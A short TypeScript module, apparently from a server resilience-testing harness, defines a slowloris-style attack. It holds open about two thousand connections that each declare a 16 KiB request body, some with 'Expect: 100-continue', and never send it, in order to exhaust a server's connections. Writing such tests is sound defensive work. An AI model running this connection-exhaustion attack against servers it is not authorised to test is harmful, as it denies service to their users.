import type { Attack } from "../attack.ts";
import { declaring } from "../requests.ts";

const CONNECTIONS = 2_060;

export const declaredBodiesKeepNobodyOut: Attack = {
  what:
    `declares bodies of 16 KiB over ${CONNECTIONS} connections and sends none`,
  caps: { connections: 20_000, bytes: 20e6 },
  run(attacker) {
    const { host } = attacker;
    const bytes = 16_384;
    const requests = [
      declaring({ host, bytes }),
      // Waits to be told to go on (RFC 9110 §10.1.1).
      declaring({ host, bytes, headers: { Expect: "100-continue" } }),
    ];
    let next = 0;
    return attacker.sideBySide(CONNECTIONS, async (connection) => {
      const request = requests[next++ % requests.length] ?? "";
      if (await connection.write(request)) await connection.readOn();
    });
  },
};
